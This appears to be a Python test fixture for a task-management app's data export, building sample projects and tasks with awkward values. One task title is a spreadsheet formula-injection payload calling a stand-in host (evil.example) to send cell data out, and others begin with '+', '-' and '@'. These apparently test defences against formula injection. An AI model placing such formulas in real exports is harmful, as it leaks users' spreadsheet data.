"""Export documents for the tests: every field set, the awkward values included."""

from __future__ import annotations

from tasklane.domain.exchange.export import (
    ExportAttachment,
    ExportChecklistItem,
    ExportComment,
    ExportHeader,
    ExportProject,
    ExportTask,
    attachment_path,
)
from tasklane.domain.models import Priority, Status

P1 = "01jc0000000000000000000001"
P2 = "01jc0000000000000000000002"
HEADER = ExportHeader(exported_at="2026-11-30T08:00:00.000Z", exported_by="user-ada")


def projects() -> list[ExportProject]:
    return [
        ExportProject(
            id=P1,
            name="Launch 🚀",
            description="Multi\nline",
            is_inbox=False,
            owner_id="user-ada",
            created_at="2026-10-01T09:00:00.000Z",
            updated_at="2026-10-02T09:00:00.000Z",
            version=2,
        ),
        ExportProject(
            id=P2,
            name="Inbox",
            description="",
            is_inbox=True,
            owner_id="user-ada",
            created_at="2026-01-01T09:00:00.000Z",
            updated_at="2026-01-01T09:00:00.000Z",
            version=1,
            archived=True,
        ),
    ]


def task(number: int, project_id: str = P1, **changes: object) -> ExportTask:
    task_id = f"{project_id}-01jc00000000000000000{number:05d}"
    attachment = ExportAttachment(
        id=f"01jc000000000000000000a{number:03d}",
        file_name="plan v2.pdf",
        size=11,
        content_type="application/pdf",
        created_at="2026-10-03T09:30:00.000Z",
        created_by="user-ada",
    )
    attachment.path = attachment_path(task_id, attachment.id, attachment.file_name)
    fields: dict[str, object] = {
        "id": task_id,
        "project_id": project_id,
        "title": f"Task {number} — naïve café 日本",
        "description": "Line one\nLine two\r\n\ttabbed",
        "status": Status.in_progress,
        "priority": Priority.urgent,
        "due_at": "2026-12-01T16:00:00.000Z",
        "labels": ["marketing", "écrit"],
        "created_at": "2026-10-03T09:00:00.000Z",
        "updated_at": "2026-10-04T09:00:00.000Z",
        "completed_at": None,
        "created_by": "user-ada",
        "updated_by": "user-bob",
        "assignee_id": "user-bob",
        "version": 3,
        "checklist": [
            ExportChecklistItem(text="Draft", done=True),
            ExportChecklistItem(text="Review"),
        ],
        "comments": [
            ExportComment(
                id=f"01jc000000000000000000c{number:03d}",
                author_id="user-bob",
                body="Looks good.\nShip it!",
                created_at="2026-10-04T10:00:00.000Z",
                updated_at="2026-10-04T10:05:00.000Z",
                version=2,
            )
        ],
        "attachments": [attachment],
        "archived": False,
    }
    fields.update(changes)
    return ExportTask.model_validate(fields)


def tasks() -> list[ExportTask]:
    return [
        task(1),
        task(
            2,
            title='=HYPERLINK("https://evil.example/?"&A1)',
            description="",
            status=Status.done,
            priority=Priority.low,
            due_at=None,
            labels=[],
            completed_at="2026-10-05T09:00:00.000Z",
            updated_by=None,
            assignee_id=None,
            checklist=[],
            comments=[],
            attachments=[],
        ),
        task(
            3,
            P2,
            title="+1 for this",
            description="-minus first\n@at",
            archived=True,
            attachments=[],
        ),
    ]
